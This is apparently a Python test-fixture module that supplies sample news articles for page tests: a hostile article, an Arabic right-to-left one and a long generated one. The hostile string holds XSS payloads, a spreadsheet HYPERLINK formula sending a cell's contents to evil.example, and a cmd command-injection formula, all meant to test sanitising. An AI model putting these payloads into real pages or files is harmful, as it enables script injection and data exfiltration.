"""Articles that pages are tested with: hostile ones, long ones, one that runs from right to left."""

from __future__ import annotations

HOSTILE = (
    "date 2022-02-01 The council of <script>window.hacked=1</script> Orlovka </script><script>window.hacked=2</script> met.\n\n"
    '<img src=x onerror="window.hacked=3"> Writes about it TASS with reference to <a href="javascript:window.hacked=4">the mayor</a>.\n\n'
    "]]> --> {{constructor}} ${window.hacked=5} `window.hacked=6` \u202egnp.exe\u202c \u2066text\u2069 \u2028next\u2029 "
    "\x07\x1b[31m red \x7f\n\n"
    '=HYPERLINK("https://evil.example/?x="&A1,"click") Writes about it RIA News with reference to the ministry.\n\n'
    '+cmd|\' /C calc\'!A0 "Tatyana <b onmouseover=alert(1)>Belova</b>" said. Tatiana Belova agreed with "Tatyana Belova".\n\n'
    "[click](javascript:alert(1)) ![x](https://evil.example/p.png) @everyone #1 <!-- --> | a | b |\n"
)

RTL = (
    "date 2023-05-11 أعلن مجلس مدينة النور يوم الاثنين أنه لن يغلق المكب القديم قبل نهاية العام.\n\n"
    "وقال رئيس البلدية سالم الحداد إن القرار اتخذ بعد نقاش طويل مع سكان الحي (انظر 12–15 مايو).\n\n"
    "اقرأ أيضا: كيف يكون الطقس في عطلة نهاية الأسبوع الطويلة\n\n"
    "وأضافت المهندسة ليلى منصور أن العمل في موقع A-12 سيبدأ في الأول من يونيو.date 2023-05-11\n"
)


def long(count: int) -> str:
    """An article with about so many findings."""
    names = ("Orlovka", "Sosnovy Mys", "Zarechensk", "Lesogorsk")
    paragraphs = []
    for number in range(count // 2):
        place = names[number % 4]
        paragraphs.append(
            f"The budget of {place} for year {number} was signed on Friday and sent to the printers. "
            f"Writes about it TASS with reference to the mayor. "
            f"The bridge number {number} will be repaired before the winter, and the road behind it too. "
            f"Writes about it Interfax with reference to the ministry."
        )
    return "\n\n".join(paragraphs) + "\n"
